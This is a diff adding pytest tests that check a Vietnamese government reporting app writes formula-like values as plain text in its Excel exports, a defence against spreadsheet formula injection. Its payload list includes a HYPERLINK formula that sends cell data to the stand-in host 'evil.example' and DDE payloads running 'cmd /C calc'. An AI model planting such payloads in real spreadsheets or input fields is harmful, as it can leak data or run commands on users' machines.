@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import io
 import json
+import zipfile
 from datetime import date, datetime
 from typing import Any
 
@@ -471,3 +472,113 @@ def test_issued_register_as_a_workbook(as_user: Any) -> None:
     assert rows[0][:4] == ("Số văn bản", "Năm", "Loại báo cáo", "Ngày ký")
     assert rows[1][0] == "849/SNgV-VP" and rows[1][3] == datetime(2020, 12, 14)
     assert rows[1][4].startswith("sha256:")
+
+
+# What a spreadsheet would run if the cell were a formula: every sign that starts one.
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "=1+1",
+    "=cmd|' /C calc'!A0",
+]
+
+
+def formula_cells(data: bytes) -> list[str]:
+    """Every formula cell of a workbook, read both through openpyxl and in the sheets' XML."""
+    wb = load_workbook(io.BytesIO(data))
+    found = [
+        f"{ws.title}!{cell.coordinate}"
+        for ws in wb.worksheets
+        for row in ws.iter_rows()
+        for cell in row
+        if cell.data_type == "f"
+    ]
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        for name in archive.namelist():
+            if name.startswith("xl/worksheets/") and b"<f>" in archive.read(name):
+                found.append(name)
+    return found
+
+
+def texts(data: bytes) -> list[str]:
+    wb = load_workbook(io.BytesIO(data))
+    return [c.value for ws in wb.worksheets for r in ws.iter_rows() for c in r if c.value]
+
+
+def post_commands(app: Any, commands: list[dict[str, Any]]) -> None:
+    token = app.extensions["ngoaivu_accounts"].new_token("admin")
+    client = app.test_client()
+    for body in commands:
+        response = client.post(
+            "/api/v1/commands", json=body, headers={"Authorization": f"Bearer {token}"}
+        )
+        assert response.status_code == 201, (body, response.get_json())
+
+
+def test_a_value_like_a_formula_is_written_as_text(app: Any, as_user: Any) -> None:
+    task = {"kind": "task.added", "org": "ha-tinh", "programme": "2020", "at": "2020-02-04"}
+    task |= {"source": "programme", "ref": FORMULAS[2], "no_note": FORMULAS[3]}
+    progress = {"kind": "task.progressed", "org": "ha-tinh", "programme": "2020"}
+    progress |= {"status": "in_progress", "at": "2020-06-01", "reason": FORMULAS[6]}
+    award = {"kind": "award.granted", "org": "ha-tinh", "at": "2020-12-01", "form": "bang_khen"}
+    award |= {"grantor": "ubnd_tinh", "category": "chuyen_de", "ref": "=2+2/QĐ"}
+    post_commands(
+        app,
+        [
+            {**task, "no": 41, "title": FORMULAS[0], "unit": FORMULAS[1]},
+            {**progress, "no": 41, "ref": FORMULAS[7]},
+            {**task, "no": 42, "title": FORMULAS[4], "unit": FORMULAS[5]},
+            {
+                **award,
+                "id": "=HYPERLINK(1)",
+                "recipient": {"type": "collective", "name": FORMULAS[7]},
+                "title": FORMULAS[0],
+            },
+        ],
+    )
+    inspector = as_user("inspector")
+    for query in (
+        "kind=key-tasks&period=2020&as_of=2020-12-31",
+        "kind=emulation&period=2020&window=calendar&as_of=2020-12-31",
+        "kind=award-register&period=2020&window=calendar&as_of=2020-12-31",
+    ):
+        response = inspector.get(f"/o/ha-tinh/reports?{query}&known_by=now&format=xlsx")
+        assert response.status_code == 200
+        assert formula_cells(response.data) == [], query
+        written = texts(response.data)
+        assert FORMULAS[0] in written, query  # the text itself, as stored
+        assert FORMULAS[7] in written, query
+
+
+def test_a_register_value_like_a_formula_is_written_as_text(as_user: Any) -> None:
+    director = as_user("director")
+    form = {
+        "kind": "key-tasks",
+        "period": "2020",
+        "as_of": "2020-12-11",
+        "number": "=1+1/SNgV-VP",
+        "signed_on": "2020-12-14",
+        "signer": "Nguyễn Văn B",
+        "csrf_token": csrf_token(director, "/o/ha-tinh/issue"),
+    }
+    response = director.post("/o/ha-tinh/issue", data=form)
+    assert response.status_code in (302, 422)
+    data = as_user("inspector").get("/o/ha-tinh/issued?format=xlsx").data
+    assert formula_cells(data) == []
+    if response.status_code == 302:
+        assert "=1+1/SNgV-VP" in texts(data)
+
+
+def test_a_control_character_stored_before_is_shown_not_a_failure() -> None:
+    content = {"report": "x", "tasks": [{"no": 1, "title": "a\x07b\x00c"}]}
+    data = spreadsheets.report_workbook(content)
+    assert "a\\x07b\\x00c" in texts(data)
+
+
+def test_every_template_has_no_formula(as_user: Any) -> None:
+    data = as_user("clerk").get("/o/ha-tinh/entry/xlsx-template").data
+    assert formula_cells(data) == []
